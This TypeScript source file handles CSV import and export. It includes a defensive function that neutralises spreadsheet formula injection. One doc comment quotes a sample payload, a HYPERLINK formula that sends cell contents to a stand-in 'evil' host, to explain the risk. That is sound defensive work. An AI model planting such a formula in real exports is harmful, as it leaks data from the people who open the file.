/**
 * The CSV dialect of the operators' files: UTF-8 (a byte-order mark is allowed), a header row,
 * comma separated, RFC 4180 quoting. Both directions live here so that what the sample generator
 * writes is exactly what the import reads.
 */
import { parse } from 'csv-parse/sync';

export interface CsvRecord {
  /** 1-based line in the file where the record starts (the header is line 1). */
  line: number;
  values: string[];
}

export interface CsvTable {
  header: string[];
  records: CsvRecord[];
}

/** A file that cannot be read as CSV at all; `line` is where the parser gave up. */
export class CsvSyntaxError extends Error {
  constructor(
    readonly line: number,
    message: string,
  ) {
    super(message);
    this.name = 'CsvSyntaxError';
  }
}

const NEWLINES = /\r\n|\r|\n/g;

/**
 * Parses a whole file. Blank lines are skipped; records keep the line they start on, counted in
 * the file as an editor shows it (a quoted cell spanning lines moves the next record down).
 * Records are not required to have as many cells as the header: the caller decides what a short
 * or long record means.
 */
export function parseCsv(text: string): CsvTable {
  let parsed: Array<{ record: string[]; info: { lines: number } }>;
  try {
    parsed = parse(text, { bom: true, info: true, relax_column_count: true, skip_empty_lines: true }) as unknown as typeof parsed;
  } catch (error) {
    const e = error as Error & { lines?: number };
    throw new CsvSyntaxError(e.lines ?? 1, e.message);
  }
  // `info.lines` is the line a record ends on; a record starts as many lines earlier as its cells hold line breaks.
  const records = parsed.map(({ record, info }) => ({
    line: info.lines - record.reduce((n, cell) => n + (cell.match(NEWLINES)?.length ?? 0), 0),
    values: record,
  }));
  const [first, ...rest] = records;
  return { header: first ? first.values.map((h) => h.trim()) : [], records: rest };
}

const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/;

const quote = (cell: string) => (NEEDS_QUOTES.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

/** Renders a table with `\n` line ends and a final newline; cells are quoted only when they must be. */
export function toCsv(header: readonly string[], rows: ReadonlyArray<readonly string[]>): string {
  return [header, ...rows].map((row) => row.map(quote).join(',')).join('\n') + '\n';
}

/**
 * CSV (formula) injection: a spreadsheet opening an export runs a cell that starts with `=`, `+`,
 * `-` or `@` (or a tab or carriage return before one) as a formula, so text a clerk typed, such as
 * `=HYPERLINK("http://evil/?"&A1)`, could leak or run something on the reader's machine. Such a
 * cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate (OWASP's
 * advice). Full-width forms (＝ ＋ － ＠), which Chinese input methods produce, are treated alike.
 * The record keeps the text as typed; only exports meant for spreadsheets are changed.
 */
const FORMULA_START = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;

export const neutraliseFormula = (cell: string): string => (FORMULA_START.test(cell) ? `'${cell}` : cell);

/** The UTF-8 byte-order mark: without it Excel on Windows reads a CSV in the system's code page and shows Chinese as mojibake. */
export const BOM = '\uFEFF';

/**
 * A CSV for people to open in a spreadsheet: a byte-order mark, then every cell neutralised and
 * rendered as `toCsv` does. `parseCsv` (and Excel, WPS, LibreOffice) read the mark and drop it.
 */
export function toSpreadsheetCsv(header: readonly string[], rows: ReadonlyArray<readonly string[]>): string {
  return BOM + toCsv(header.map(neutraliseFormula), rows.map((row) => row.map(neutraliseFormula)));
}
